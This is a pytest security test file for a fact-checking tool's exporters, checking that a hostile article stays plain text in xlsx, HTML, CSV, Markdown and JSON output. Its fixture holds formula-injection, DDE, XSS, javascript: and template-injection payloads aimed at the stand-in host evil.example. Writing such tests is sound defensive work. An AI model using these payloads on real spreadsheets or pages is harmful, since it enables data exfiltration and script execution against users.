"""A hostile article in every format: its words are words. No formula, no markup, no address that does something, no request."""

from __future__ import annotations

import csv
import io
import re
import socket
import zipfile
from functools import cache

import pytest
from lxml import html

from factcheck import api
from factcheck.model.worksheet import Worksheet
from factcheck.plugin.manager import create_manager

pytestmark = pytest.mark.slow  # part of make test-all: it takes minutes

MANAGER = create_manager(entry_points=False)
EVIL = "evil.example"
FORMULA = f'HYPERLINK("http://{EVIL}/?"&A1)'
MARKUP = f"<script>fetch('//{EVIL}')</script><img src=x onerror=alert('{EVIL}')>\"'><b onclick=x>"
ARTICLE = f"""---
title: "=cmd|' /C {EVIL}'!A0 {MARKUP.replace('"', "")}"
author: "@SUM(1+9) {EVIL}"
url: "javascript:alert('{EVIL}')"
---

# ={FORMULA}

={FORMULA} cost $5 million in 2019, Mayor ={EVIL} said on Monday.

+{FORMULA} killed 12 people. -2+3+{FORMULA} did not.

@SUM({EVIL}) said “={FORMULA} fell by 5 percent,” {{{{ 7 * 7 }}}} {{% raw %}}.

See [={FORMULA}](javascript:alert('{EVIL}')) and [data](data:text/html,{EVIL}) and [file](file:///etc/{EVIL}) and
[share](\\\\\\\\{EVIL}\\\\share) of 3 May.

\\<script>alert('{EVIL}')\\</script> killed 14 people, ]]> --> </style> </textarea> Ann Lee said.

|={FORMULA}|b|
|-|-|
|@x|-1+{EVIL}|
"""
FORMATS = ("xlsx", "html", "csv", "markdown", "json")


@cache
def sheet() -> Worksheet:
    made = api.generate(api.read(ARTICLE.encode(), name="=1+1.md", manager=MANAGER), manager=MANAGER)
    typed = {c.id: {"note": f"={FORMULA}", "link": f"javascript:alert('{EVIL}')", "evidence": MARKUP, "=own": "@x"} for c in made.claims}
    import dataclasses

    return dataclasses.replace(
        made, entries={**typed, "cover": {"draft": f"={FORMULA}"}}, contacts=({"who": f"={FORMULA}", "answer": MARKUP},)
    )


@cache
def written(format_id: str) -> bytes:
    return api.dump(sheet(), format_id, manager=MANAGER)


def test_text_is_never_a_formula_in_a_workbook() -> None:
    seen = 0
    with zipfile.ZipFile(io.BytesIO(written("xlsx"))) as z:
        for name in z.namelist():
            body = z.read(name).decode("utf-8")
            assert not [f for f in re.findall(r"<f\b[^>]*>([^<]*)</f>", body) if EVIL in f or "cmd|" in f], name
            assert "TargetMode" not in body or not re.findall(r'Target="(?!https?://|mailto:|/|xl/|[\w./]+\.(?:xml|vml)")[^"]*"', body), (
                name
            )
            assert "<oleObject" not in body and "externalLink" not in body and "ddeLink" not in body
            seen += EVIL in body
    assert seen


def test_text_is_never_a_formula_in_a_table() -> None:
    cells = [c for row in csv.reader(io.StringIO(written("csv").decode("utf-8-sig"))) for c in row]
    assert [c for c in cells if EVIL in c]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "|", "%")) and EVIL in c]


def test_text_is_never_markup_on_the_page() -> None:
    tree = html.document_fromstring(written("html").decode("utf-8"))
    policy = tree.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert len(policy) == 1 and "default-src 'none'" in policy[0] and "unsafe" not in policy[0].replace("style-src 'unsafe-hashes'", "")
    for element in tree.iter():
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name)
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                assert value.startswith(("#", "http://", "https://", "mailto:")), (element.tag, value)
    assert not tree.xpath("//img|//iframe|//object|//embed|//link|//base|//form[@action]")
    for script in tree.xpath("//script"):
        assert EVIL not in (script.text or "") or script.get("type") == "application/json"
    assert EVIL in tree.text_content()


def test_text_is_never_markup_in_markdown() -> None:
    from markdown_it import MarkdownIt

    shown = MarkdownIt("commonmark").enable("table").render(written("markdown").decode("utf-8"))
    tree = html.fragment_fromstring(shown, create_parent="div")
    assert not tree.xpath(".//script|.//img|.//iframe|.//b[@onclick]")
    assert all(h.startswith(("http://", "https://", "mailto:", "#")) for h in tree.xpath(".//@href"))
    assert EVIL in tree.text_content()


@pytest.mark.parametrize("format_id", FORMATS)
def test_nothing_goes_out_and_templates_are_words(format_id: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("a connection was opened")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    made = api.generate(api.read(ARTICLE.encode(), name="a.md", manager=MANAGER), manager=MANAGER)
    data = api.dump(made, format_id, manager=MANAGER)
    if format_id in ("json", "html", "csv", "markdown"):
        assert b"7 * 7" in data or b"7 \\* 7" in data


def test_no_module_of_the_core_opens_a_connection_but_fetch() -> None:
    from pathlib import Path

    import factcheck

    found = {
        p.name
        for p in Path(factcheck.__file__).parent.rglob("*.py")
        if re.search(
            r"^\s*(?:import|from) (?:urllib\.request|http\.client|socket|ssl|ftplib|smtplib|requests|httpx)\b", p.read_text("utf-8"), re.M
        )
    }
    assert found == {"fetch.py"}
